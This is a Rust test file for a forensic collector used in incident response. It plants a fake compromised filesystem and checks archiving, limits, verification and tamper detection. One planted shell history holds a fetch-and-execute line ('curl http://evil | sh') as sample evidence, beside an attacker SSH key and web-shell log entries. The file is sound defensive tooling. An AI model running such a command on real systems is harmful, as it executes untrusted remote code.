//! The command line as responders use it: default profile, specs and profiles from
//! files (UAC's format), spec errors, limits, timeout, stdout output, and verify.

mod common;
use common::*;
use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};

fn planted() -> TestDir {
    let t = TestDir::new("cli");
    let r = t.path();
    for d in [
        "etc",
        "root",
        "home/app/.ssh",
        "var/log/nginx",
        "tmp",
        "usr/bin",
    ] {
        std::fs::create_dir_all(r.join(d)).unwrap();
    }
    std::fs::write(r.join("etc/passwd"), "root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/home/app:/bin/sh\nwww:x:33:33::/var/www:/usr/sbin/nologin\n").unwrap();
    std::fs::write(r.join("etc/shadow"), "root:*:1::::::\n").unwrap();
    std::fs::write(r.join("root/.bash_history"), "curl http://evil | sh\n").unwrap();
    std::fs::write(r.join("home/app/.ash_history"), "id\n").unwrap();
    std::fs::write(
        r.join("home/app/.ssh/authorized_keys"),
        "ssh-ed25519 AAAA attacker\n",
    )
    .unwrap();
    std::fs::write(r.join("home/app/.ssh/id_ed25519"), "PRIVATE").unwrap();
    std::fs::write(r.join("var/log/app.log"), "GET /shell.php\n").unwrap();
    std::fs::write(r.join("var/log/nginx/access.log"), "1.2.3.4 GET /\n").unwrap();
    std::fs::write(r.join("tmp/dropper.sh"), "#!/bin/sh\n").unwrap();
    std::fs::write(r.join("tmp/big.bin"), vec![7u8; 11 << 20]).unwrap();
    std::fs::write(r.join("usr/bin/tool"), "bin").unwrap();
    t
}

#[test]
fn default_profile_collects_the_planted_evidence() {
    let t = planted();
    let out = t.out("cli-default.tar.zst");
    collect(t.path(), &out, &[]);
    verify_ok(&out);
    let a = Archive::read(&out);
    assert_eq!(
        a.text("files/root/.bash_history"),
        "curl http://evil | sh\n"
    );
    assert_eq!(a.text("files/home/app/.ash_history"), "id\n");
    assert_eq!(a.text("files/var/log/app.log"), "GET /shell.php\n");
    assert_eq!(a.text("files/var/log/nginx/access.log"), "1.2.3.4 GET /\n");
    assert_eq!(a.text("files/tmp/dropper.sh"), "#!/bin/sh\n");
    assert_eq!(a.text("files/etc/shadow"), "root:*:1::::::\n");
    assert!(a.get("files/home/app/.ssh/authorized_keys").is_some());
    assert!(
        a.get("files/home/app/.ssh/id_ed25519").is_none(),
        "private keys are not taken"
    );
    // Files over the /tmp cap are hashed, not copied.
    assert!(a.get("files/tmp/big.bin").is_none());
    let hashes = a.text("outputs/files/tmp/tmp/large_tmp_files.sha256");
    assert!(hashes.contains("/tmp/big.bin"), "{hashes}");
    let want = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(vec![7u8; 11 << 20]));
    assert!(hashes.starts_with(&want));
    // The manifest's hashes are those of the stored bytes.
    let rec = a.record("/root/.bash_history");
    assert_eq!(
        rec["sha256"],
        hex::encode(<sha2::Sha256 as sha2::Digest>::digest(
            b"curl http://evil | sh\n"
        ))
    );
    assert_eq!(rec["artifact"], "files/shell/history");
    assert_eq!(rec["status"], "complete");
    for k in [
        "mode", "uid", "gid", "mtime", "atime", "ctime", "inode", "size",
    ] {
        assert!(!rec[k].is_null(), "manifest lacks {k}");
    }
    let s = a.summary();
    assert_eq!(s["profile"], "container-triage");
    assert_eq!(s["live"], false);
    assert!(s["counts"]["files"].as_u64().unwrap() >= 8);
    // FILE.sha256 is in sha256sum -c format.
    let side = std::fs::read_to_string(format!("{}.sha256", out.display())).unwrap();
    assert!(side.ends_with("  cli-default.tar.zst\n"));
    let st = Command::new("sha256sum")
        .arg("-c")
        .arg(format!("{}.sha256", out.display()))
        .current_dir(out.parent().unwrap())
        .status()
        .unwrap();
    assert!(st.success());
    let _ = std::fs::remove_file(&out);
}

#[test]
fn uac_artifact_and_profile_files_work_and_commands_are_not_run() {
    let t = planted();
    let dir = tempfile::tempdir().unwrap();
    let arts = dir.path().join("artifacts/live_response");
    std::fs::create_dir_all(&arts).unwrap();
    std::fs::write(arts.join("mixed.yaml"), "version: 2.0\nartifacts:\n  -\n    description: ps\n    supported_os: [linux]\n    collector: command\n    command: ps auxwww\n    output_file: ps.txt\n  -\n    description: executables\n    supported_os: [all]\n    collector: find\n    path: /usr/bin\n    file_type: [f]\n    output_file: exec.txt\n  -\n    description: hash them\n    supported_os: [all]\n    collector: hash\n    path: exec.txt\n    is_file_list: true\n    output_file: hash_exec\n  -\n    description: bodyfile\n    supported_os: [all]\n    collector: stat\n    path: /etc\n    output_file: bodyfile.txt\n  -\n    description: mac only\n    supported_os: [macos]\n    collector: file\n    path: /etc\n").unwrap();
    let profiles = dir.path().join("profiles");
    std::fs::create_dir_all(&profiles).unwrap();
    let profile = profiles.join("mine.yaml");
    std::fs::write(&profile, "name: mine\ndescription: test\nartifacts:\n  - live_response/mixed.yaml\n  - files/logs/*\n").unwrap();
    let out = t.out("cli-uac.tar.zst");
    let o = collect(t.path(), &out, &["--profile", profile.to_str().unwrap()]);
    // What is skipped by design is said on stderr, in one line.
    let said = String::from_utf8_lossy(&o.stderr);
    assert!(
        said.contains("not run by design: 1 command collector(s)"),
        "{said}"
    );
    verify_ok(&out);
    let a = Archive::read(&out);
    let set = "live_response/mixed";
    assert_eq!(
        a.text(&format!("outputs/{set}/exec.txt")),
        "/usr/bin/tool\n"
    );
    let h = a.text(&format!("outputs/{set}/hash_exec.sha256"));
    assert_eq!(
        h,
        format!(
            "{}  /usr/bin/tool\n",
            hex::encode(<sha2::Sha256 as sha2::Digest>::digest(b"bin"))
        )
    );
    let body = a.text(&format!("outputs/{set}/bodyfile.txt"));
    let line = body.lines().find(|l| l.contains("|/etc/passwd|")).unwrap();
    assert_eq!(line.split('|').count(), 11);
    assert!(line.split('|').nth(3).unwrap().starts_with("-rw"));
    assert!(a.get("files/var/log/app.log").is_some());
    assert!(
        a.get("files/etc/passwd").is_none(),
        "macos-only entry must not run"
    );
    let log = a.log();
    assert!(log
        .iter()
        .any(|l| l["event"] == "not_run" && l["message"].as_str().unwrap().contains("ps auxwww")));
    let _ = std::fs::remove_file(&out);
    // A profile entry that names nothing (a typo, or an artifact file that is not there)
    // is an error, as in --artifacts, with the likely name.
    std::fs::write(
        &profile,
        "name: mine\nartifacts:\n  - files/logs/*\n  - files/shell/histroy\n  - chkrootkit/chkrootkit.yaml\n",
    )
    .unwrap();
    let o = run(&[
        "collect",
        "--root",
        t.path().to_str().unwrap(),
        "--profile",
        profile.to_str().unwrap(),
        "--output",
        out.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(2));
    let said = String::from_utf8_lossy(&o.stderr);
    assert!(
        said.contains("profile `mine`: entry `files/shell/histroy` is neither a built-in artifact")
            && said.contains("did you mean `files/shell/history`?"),
        "{said}"
    );
    assert!(!out.exists(), "no archive for a refused selection");
}

#[test]
fn bad_specs_name_file_line_and_field() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("bad.yaml");
    std::fs::write(&f, "artifacts:\n  - description: ok\n    collector: file\n    path: /etc\n  - description: typo\n    collector: file\n    paht: /var/log\n").unwrap();
    let o = run(&[
        "collect",
        "--artifacts",
        f.to_str().unwrap(),
        "--output",
        dir.path().join("x").to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(2));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains(&format!("{}:7: field `paht`", f.display())),
        "{err}"
    );
    assert!(
        !dir.path().join("x").exists(),
        "no archive for a rejected spec"
    );
    std::fs::write(
        &f,
        "artifacts:\n  - collector: file\n    path: /etc\n    max_depth: [1\n",
    )
    .unwrap();
    let o = run(&[
        "collect",
        "--artifacts",
        f.to_str().unwrap(),
        "--output",
        "-",
    ]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("bad.yaml:"),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let o = run(&["collect", "--artifacts", "no/such/thing", "--output", "-"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("neither a built-in artifact"));
    let o = run(&["collect", "--profile", "nope", "--output", "-"]);
    assert!(String::from_utf8_lossy(&o.stderr).contains("unknown profile `nope`"));
}

#[test]
fn exclusions_limits_and_timeout() {
    let t = planted();
    let out = t.out("cli-ex.tar.zst");
    let o = common::collect_cut(
        t.path(),
        &out,
        &[
            "--artifacts",
            "!files/tmp/*,!files/ssh/ssh",
            "--max-total-size",
            "20",
        ],
    );
    let said = String::from_utf8_lossy(&o.stderr);
    assert!(
        said.contains("cut short: --max-total-size 20 reached:"),
        "{said}"
    );
    let v = verify(&out);
    assert!(
        v.contains("OK ") && v.contains("CUT SHORT") && v.contains("--max-total-size"),
        "{v}"
    );
    let a = Archive::read(&out);
    assert!(a.get("files/tmp/dropper.sh").is_none());
    assert!(a.get("files/home/app/.ssh/authorized_keys").is_none());
    let s = a.summary();
    assert!(s["counts"]["bytes_stored"].as_u64().unwrap() <= 20);
    assert_eq!(s["complete"], false);
    assert_eq!(s["cut_short"].as_array().unwrap().len(), 1, "{s}");
    assert!(a
        .manifest()
        .iter()
        .any(|r| r["reason"] == "--max-total-size reached"));
    // A zero timeout still yields a complete, valid archive that says it was cut.
    let out2 = t.out("cli-to.tar.zst");
    common::collect_cut(t.path(), &out2, &["--timeout", "0s"]);
    let v = verify(&out2);
    assert!(
        v.contains("CUT SHORT") && v.contains("--timeout 0s reached"),
        "{v}"
    );
    let a = Archive::read(&out2);
    assert_eq!(a.summary()["timed_out"], true);
    // Without a limit reached, it is complete, and verify says so.
    let out3 = t.out("cli-whole.tar.zst");
    collect(t.path(), &out3, &[]);
    assert_eq!(Archive::read(&out3).summary()["complete"], true);
    assert!(verify(&out3).contains("collection complete"));
    assert!(a.log().iter().any(|l| l["event"] == "timeout"));
    let _ = std::fs::remove_file(&out);
    let _ = std::fs::remove_file(&out2);
}

/// An archive is evidence: an existing one is not overwritten without --force; a
/// path that cannot be written is named before anything is collected; `/dev/null`
/// works (nothing synced, no `.sha256` beside it); `-o` is refused with a pointer to
/// --output, since in cairn and kubectl it is a format.
#[test]
fn outputs_are_never_overwritten_silently_and_bad_ones_are_named() {
    let t = planted();
    let root = t.path().to_str().unwrap().to_owned();
    let out = t.out("taken.tar.zst");
    std::fs::write(&out, "earlier evidence").unwrap();
    let o = run(&[
        "collect",
        "--root",
        &root,
        "--output",
        out.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(2));
    let said = String::from_utf8_lossy(&o.stderr);
    assert!(
        said.contains(&format!(
            "{} exists: an archive may be evidence and is not overwritten",
            out.display()
        )),
        "{said}"
    );
    assert_eq!(std::fs::read(&out).unwrap(), b"earlier evidence");
    let o = run(&[
        "collect",
        "--root",
        &root,
        "--progress",
        "none",
        "--output",
        out.to_str().unwrap(),
        "--force",
    ]);
    cairn_testkit::env::succeeded(&o);
    verify_ok(&out);

    let missing = t.out("no/such/dir/ev.tar.zst");
    let o = run(&[
        "collect",
        "--root",
        &root,
        "--output",
        missing.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(2));
    let said = String::from_utf8_lossy(&o.stderr);
    assert!(
        said.contains(&format!(
            "the directory {} does not exist",
            missing.parent().unwrap().display()
        )),
        "{said}"
    );

    let o = run(&[
        "collect",
        "--root",
        &root,
        "--progress",
        "none",
        "--output",
        "/dev/null",
    ]);
    cairn_testkit::env::succeeded(&o);
    assert!(!Path::new("/dev/null.sha256").exists());

    let o = run(&["collect", "--root", &root, "-o", "json"]);
    assert_eq!(o.status.code(), Some(2));
    let said = String::from_utf8_lossy(&o.stderr);
    assert!(
        said.contains("-o json: the collector has no -o; the archive goes to --output FILE"),
        "{said}"
    );
    assert!(!Path::new("json").exists());
    let o = run(&["containers", "--node-root", &root, "-o", "yaml"]);
    assert_eq!(o.status.code(), Some(2));
}

/// On a terminal, progress is one status line rewritten in place, between a line for
/// the start and one for the sealed archive, all prefixed `cairn-collector:`; not a
/// line per artifact.
#[test]
fn on_a_terminal_progress_is_one_status_line() {
    let t = planted();
    let out = t.out("tty.tar.zst");
    let command = format!(
        "{} collect --root {} --output {}",
        bin(),
        t.path().display(),
        out.display()
    );
    let o = common::env::command("script")
        .args(["-qec", &command, "/dev/null"])
        .output()
        .unwrap();
    let screen = String::from_utf8_lossy(&o.stdout);
    assert!(o.status.success(), "{screen}");
    let lines: Vec<&str> = screen.lines().collect();
    assert!(
        lines[0].starts_with("cairn-collector: collecting ") && lines[0].contains(" artifacts)"),
        "{screen:?}"
    );
    assert!(
        screen.contains("\r\x1b[2Kcairn-collector: [1/"),
        "{screen:?}"
    );
    assert!(
        lines
            .iter()
            .any(|l| l.contains("cairn-collector: archive sealed: ")),
        "{screen:?}"
    );
    // Twelve-odd artifacts, a handful of lines: start, end, the final counts.
    assert!(lines.len() <= 6, "{screen:?}");
    assert!(!screen.contains("cairn: "), "{screen:?}");
}

#[test]
fn stdout_output_json_progress_and_tamper_detection() {
    let t = planted();
    let o = common::env::command(bin())
        .args([
            "collect",
            "--root",
            t.path().to_str().unwrap(),
            "--output",
            "-",
            "--progress",
            "json",
        ])
        .output()
        .unwrap();
    cairn_testkit::env::succeeded(&o);
    let events: Vec<serde_json::Value> = String::from_utf8_lossy(&o.stderr)
        .lines()
        .filter(|l| l.starts_with('{'))
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(events.first().unwrap()["event"], "start");
    let done = events.iter().find(|e| e["event"] == "done").unwrap();
    let sha = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&o.stdout));
    assert_eq!(
        done["sha256"], sha,
        "reported sha256 is that of the bytes on stdout"
    );
    // verify reads stdin too.
    let mut v = common::env::command(bin())
        .args(["verify", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    v.stdin.take().unwrap().write_all(&o.stdout).unwrap();
    assert!(v.wait_with_output().unwrap().status.success());

    // Tampering with a file inside the archive is found.
    let dir = tempfile::tempdir().unwrap();
    let x = dir.path().join("x");
    std::fs::create_dir(&x).unwrap();
    let st = Command::new("sh")
        .arg("-c")
        .arg("zstd -dc | tar -xf - -C \"$0\"")
        .arg(&x)
        .stdin(Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            c.stdin.take().unwrap().write_all(&o.stdout)?;
            c.wait()
        })
        .unwrap();
    assert!(st.success());
    std::fs::write(x.join("files/root/.bash_history"), "innocent\n").unwrap();
    let bad = dir.path().join("bad.tar.zst");
    let st = Command::new("sh").arg("-c").arg(format!("cd {} && tar -cf - files outputs collection.log manifest.jsonl summary.json 2>/dev/null | zstd -q -o {}", x.display(), bad.display())).status().unwrap();
    assert!(st.success());
    let o = run(&["verify", bad.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.contains("MISMATCH files/root/.bash_history: sha256"),
        "{out}"
    );
    // A corrupted compressed byte is found too.
    let mut bytes = std::fs::read(&bad).unwrap();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0xff;
    std::fs::write(&bad, bytes).unwrap();
    let o = run(&["verify", bad.to_str().unwrap()]);
    assert_ne!(o.status.code(), Some(0));
}

/// `verify` on what is not an archive, or on a truncated one, says so in one line
/// instead of one MISMATCH per entry; and on a good one it says whether the `.sha256`
/// beside it was compared.
#[test]
fn verify_names_a_non_archive_and_a_truncated_one_in_one_line() {
    let t = planted();
    // Incompressible logs, so the archive spans many zstd blocks and a cut one still
    // holds complete entries.
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    for i in 0..4 {
        let noise: Vec<u8> = (0..300_000)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                x as u8
            })
            .collect();
        std::fs::write(t.path().join(format!("var/log/noise{i}.log")), noise).unwrap();
    }
    let out = t.out("whole.tar.zst");
    collect(t.path(), &out, &[]);
    let said = verify(&out);
    assert!(
        said.contains(&format!("matches {}.sha256", out.display())),
        "{said}"
    );
    std::fs::remove_file(format!("{}.sha256", out.display())).unwrap();
    assert!(verify(&out).contains("no ") && verify(&out).contains(".sha256 beside it"));

    let text = t.out("notes.txt");
    std::fs::write(&text, "just some notes\n").unwrap();
    let o = run(&["verify", text.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    let said = String::from_utf8_lossy(&o.stdout);
    assert_eq!(said.lines().count(), 1, "{said}");
    assert!(
        said.starts_with("FAILED not a zstd archive (it starts with 6a757374"),
        "{said}"
    );

    let bytes = std::fs::read(&out).unwrap();
    let cut = t.out("cut.tar.zst");
    std::fs::write(&cut, &bytes[..bytes.len() * 2 / 3]).unwrap();
    let o = run(&["verify", cut.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    let said = String::from_utf8_lossy(&o.stdout);
    assert_eq!(said.lines().count(), 1, "{said}");
    assert!(
        said.starts_with("FAILED truncated after ") && said.contains("(last complete: "),
        "{said}"
    );
}

/// `truncate_size` keeps the head of a large file (marked truncated, with the reason)
/// instead of skipping it; the built-in /var/log artifact caps each log at 100 MiB.
#[test]
fn truncate_size_keeps_the_head_of_large_files() {
    let t = tempfile::tempdir().unwrap();
    let r = t.path().join("root");
    std::fs::create_dir_all(r.join("var/log")).unwrap();
    std::fs::write(r.join("var/log/small.log"), "short\n").unwrap();
    let big: Vec<u8> = (0..5000u32)
        .flat_map(|i| format!("line {i}\n").into_bytes())
        .collect();
    std::fs::write(r.join("var/log/app.log"), &big).unwrap();
    // A sparse log of 150 MiB apparent size: the built-in cap applies.
    let f = std::fs::File::create(r.join("var/log/huge.log")).unwrap();
    f.set_len(150 << 20).unwrap();
    let spec = t.path().join("cap.yaml");
    std::fs::write(
        &spec,
        "artifacts:\n  - collector: file\n    path: /var/log\n    name_pattern: [\"app.log\", \"small.log\"]\n    truncate_size: 1000\n",
    )
    .unwrap();
    let out = t.path().join("a.tar.zst");
    collect(
        &r,
        &out,
        &[
            "--artifacts",
            &format!("{},files/logs/var_log.yaml", spec.display()),
        ],
    );
    verify_ok(&out);
    let a = Archive::read(&out);
    assert_eq!(a.get("files/var/log/app.log").unwrap(), &big[..1000]);
    let rec = a.record("/var/log/app.log");
    assert_eq!(rec["status"], "truncated");
    assert!(
        rec["reason"].as_str().unwrap().contains("truncate_size"),
        "{rec}"
    );
    assert_eq!(a.text("files/var/log/small.log"), "short\n");
    assert_eq!(a.record("/var/log/small.log")["status"], "complete");
    assert_eq!(a.get("files/var/log/huge.log").unwrap().len(), 100 << 20);
    assert_eq!(a.record("/var/log/huge.log")["status"], "truncated");
}

/// A launcher keeps its exec stream's stdin open while attached: `--upload-url -`
/// reads one line and `--upload-plan -` one JSON document, and go on without EOF.
#[test]
fn upload_url_and_plan_from_stdin_do_not_wait_for_its_end() {
    use std::io::Write;
    use std::process::Stdio;
    let t = tempfile::tempdir().unwrap();
    for (flag, given, expect) in [
        (
            "--upload-url",
            "https://acct.blob.core.windows.net/c/b.tar.zst?sv=2022-11-02&sr=b&sp=cw&se=2001-01-01T00%3A00%3A00Z&sig=abc\n",
            "expired",
        ),
        ("--upload-plan", "{\"version\": 1}\n", "plan"),
    ] {
        let mut child = common::env::command(common::bin())
            .args(["collect", "--root", t.path().to_str().unwrap(), flag, "-"])
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(given.as_bytes()).unwrap();
        // stdin stays open; the collector must answer anyway.
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        let status = loop {
            if let Some(s) = child.try_wait().unwrap() {
                break s;
            }
            if std::time::Instant::now() > deadline {
                let _ = child.kill();
                panic!("{flag} - waited for the end of stdin");
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        };
        drop(stdin);
        let mut err = String::new();
        std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut err).unwrap();
        assert_eq!(status.code(), Some(2), "{flag}: {err}");
        assert!(err.to_lowercase().contains(expect), "{flag}: {err}");
        assert!(!err.contains("sig=abc"), "the URL leaked: {err}");
    }
}

/// docs/cli.md holds every command's --help as the binary prints it, so every flag is
/// documented there and the reference cannot fall behind the definitions.
#[test]
fn docs_cli_md_holds_every_commands_help() {
    let doc =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/cli.md")).unwrap();
    let top = common::env::command(bin()).arg("--help").output().unwrap();
    let subs = common::env::subcommands(&String::from_utf8_lossy(&top.stdout));
    assert!(subs.len() >= 6, "{subs:?}");
    for sub in std::iter::once("").chain(subs.iter().map(String::as_str)) {
        let mut c = common::env::command(bin());
        if !sub.is_empty() {
            c.arg(sub);
        }
        let o = c.arg("--help").env_remove("TMPDIR").output().unwrap();
        cairn_testkit::env::succeeded(&o);
        let help = String::from_utf8(o.stdout).unwrap();
        assert!(
            doc.contains(&format!("```text\n{help}```")),
            "docs/cli.md is not current for `cairn-collector {sub} --help`: run scripts/cli-doc.sh"
        );
        if !sub.is_empty() {
            assert!(
                help.starts_with("Examples:\n  cairn-collector"),
                "`cairn-collector {sub} --help`: {help}"
            );
        }
    }
}

/// An archive written inside the tree it collects is said to be (stderr, log, summary),
/// and a later collection takes it in again like any other file: cairn skips no file by
/// its name or content, which would let an attacker hide files the same way.
#[test]
fn an_archive_written_inside_the_collected_tree_is_said_and_taken_in_again() {
    let t = planted();
    let root = t.path().to_str().unwrap().to_owned();
    let spec = spec_all(t.base(), "/tmp");
    let inside = t.path().join("tmp/cairn-first.tar.zst");
    let o = run(&[
        "collect",
        "--root",
        &root,
        "--artifacts",
        &spec,
        "--progress",
        "none",
        "--output",
        inside.to_str().unwrap(),
    ]);
    cairn_testkit::env::succeeded(&o);
    let said = String::from_utf8_lossy(&o.stderr);
    let canonical = std::fs::canonicalize(&inside).unwrap();
    assert!(
        said.contains(&format!(
            "cairn-collector: warning: the archive is written inside the collected tree, at {} on ",
            canonical.display()
        )) && said.contains("a later collection of this tree takes it in again as evidence"),
        "{said}"
    );
    let first = Archive::read(&inside);
    let footprint = &first.summary()["collector"];
    assert_eq!(footprint["output"]["path"], canonical.to_str().unwrap());
    assert!(
        footprint["writes"].as_str().unwrap().starts_with(
            "the collector writes one file itself, its archive, inside the collected tree at "
        ),
        "{footprint}"
    );
    assert!(
        first.log().iter().any(|r| r["level"] == "warn"
            && r["message"]
                .as_str()
                .unwrap_or_default()
                .starts_with("the archive is written inside the collected tree")),
        "no warning in the log"
    );
    // Its own archive is not in itself; the next collection, written elsewhere, takes
    // it in with the bytes the first run sealed.
    assert!(!first
        .manifest()
        .iter()
        .any(|r| r["source"] == "/tmp/cairn-first.tar.zst"));
    let out = t.out("second.tar.zst");
    let o = run(&[
        "collect",
        "--root",
        &root,
        "--artifacts",
        &spec,
        "--progress",
        "none",
        "--output",
        out.to_str().unwrap(),
    ]);
    cairn_testkit::env::succeeded(&o);
    assert!(
        !String::from_utf8_lossy(&o.stderr).contains("inside the collected tree"),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let second = Archive::read(&out);
    let sealed = std::fs::read_to_string(format!("{}.sha256", inside.display())).unwrap();
    assert_eq!(
        second.record("/tmp/cairn-first.tar.zst")["sha256"]
            .as_str()
            .unwrap(),
        sealed.split_whitespace().next().unwrap()
    );
    assert_eq!(
        second.summary()["collector"]["output"],
        serde_json::Value::Null
    );
}
